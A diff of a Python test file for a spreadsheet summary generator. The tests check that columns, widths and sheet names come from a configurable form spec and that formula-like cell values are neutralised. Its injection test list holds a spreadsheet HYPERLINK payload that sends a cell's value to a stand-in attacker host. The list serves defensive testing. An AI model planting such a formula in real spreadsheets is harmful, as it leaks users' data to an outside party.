@@ -13,10 +13,16 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from pipeline.model import FORM_LABELS, Problem, Status
-from pipeline.reports.summary import ALL_HEADERS, UNIT_HEADERS, build_summary_xlsx
+from pipeline.campaign import builtin
+from pipeline.model import Problem, Status
+from pipeline.reports.summary import all_headers, build_summary_xlsx, unit_headers
 from pipeline.reports.views import AttachmentView, SubmissionView, UnitRow
 from pipeline.reports.xlsx_style import display_width, looks_like_formula, put, safe_value, status_fill
+
+FORM = builtin().form
+FORM_LABELS = FORM.labels
+UNIT_HEADERS = unit_headers(FORM)
+ALL_HEADERS = all_headers(FORM)
 
 INJECTIONS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
@@ -273,3 +279,69 @@ def test_awkward_text_is_written(tmp_path: Path, text: str):
     value = openpyxl.load_workbook(tmp_path / "p.xlsx").active["A1"].value
     assert value == safe_value(text)
     assert len(value) <= 32767 and "\x00" not in value
+
+
+def test_sheets_follow_the_campaigns_form(tmp_path: Path):
+    """Another campaign's form: every column, width and sheet name comes from its fields."""
+    from pipeline.campaign import FieldSpec, FormSpec, Kind
+    from pipeline.reports.summary import build_packet_summary, field_headers, packet_headers
+
+    work = FormSpec(
+        fields=(
+            FieldSpec("作品名称", summary=True, width=20),
+            FieldSpec("作者", summary=True),
+            FieldSpec("阅读量", kind=Kind.INTEGER),
+            FieldSpec("作品简介", kind=Kind.LONG_TEXT),
+            FieldSpec("联系电话", kind=Kind.PHONE, summary=True),
+        ),
+        title="申报表",
+        identity="作品名称",
+    )
+    view = make_view("TJ-001", "北京针灸学会", Status.ACCEPTED)
+    view.fields = {
+        "作品名称": "穴位科普",
+        "作者": "张三",
+        "阅读量": "3万",
+        "作品简介": "简介",
+        "联系电话": "139",
+    }
+    path = build_summary_xlsx([UnitRow("北京针灸学会", view)], [view], tmp_path / "汇总表.xlsx", form=work)
+    wb = openpyxl.load_workbook(path)
+    assert wb.sheetnames == ["汇总", "申报表内容", "全部来信"]
+    head = [c.value for c in wb["汇总"][1]]
+    assert head == [
+        "序号",
+        "单位",
+        "状态",
+        "受理编号",
+        "作品名称",
+        "作者",
+        "联系电话",
+        "收到时间",
+        "待办 / 问题",
+        "原件",
+    ]
+    assert [c.value for c in wb["汇总"][2]][4:7] == ["穴位科普", "张三", "139"]
+    fields = wb["申报表内容"]
+    assert [c.value for c in fields[1]] == list(field_headers(work))
+    assert [c.value for c in fields[2]][3:] == list(view.fields.values())
+    widths = {c.value: fields.column_dimensions[c.column_letter].width for c in fields[1]}
+    assert widths["作品名称"] == 20 and widths["作品简介"] == 22 and widths["联系电话"] == 13
+    assert [c.value for c in wb["全部来信"][1]][6:11] == list(work.labels)
+    sheet = build_packet_summary(
+        [view],
+        [
+            {
+                "folder": "1_穴位科普",
+                "files": ["1_穴位科普/申报表.docx"],
+                "form_file": "1_穴位科普/申报表.docx",
+            }
+        ],
+        tmp_path / "推荐作品汇总表.xlsx",
+        form=work,
+        sheet_title="推荐作品",
+    )
+    ws = openpyxl.load_workbook(sheet)["推荐作品"]
+    assert [c.value for c in ws[1]] == list(packet_headers(work))
+    assert ws.cell(2, packet_headers(work).index("申报表") + 1).hyperlink.target == "1_穴位科普/申报表.docx"
+    assert ws.column_dimensions["F"].width == 40  # 作品简介, long text, wraps in a wide column
